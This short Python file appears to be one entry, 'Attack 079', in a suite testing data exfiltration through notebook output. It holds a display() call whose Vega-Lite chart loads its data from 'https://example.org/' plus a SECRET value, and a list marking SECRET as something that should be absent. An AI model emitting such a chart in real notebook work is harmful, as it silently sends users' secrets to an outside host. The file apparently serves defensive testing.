"""Attack 079: vega url"""

IDEA = "A chart that loads its data from another host."
SOURCE = "Vega-Lite, data url"
WAY = "iopub/display_data/data"
CODE = """
display(
    {
        "application/vnd.vegalite.v5+json": {"mark": "bar", "data": {"url": "https://example.org/" + SECRET}},
        "text/plain": ".",
    },
    raw=True,
)
"""
ABSENT = ["SECRET"]
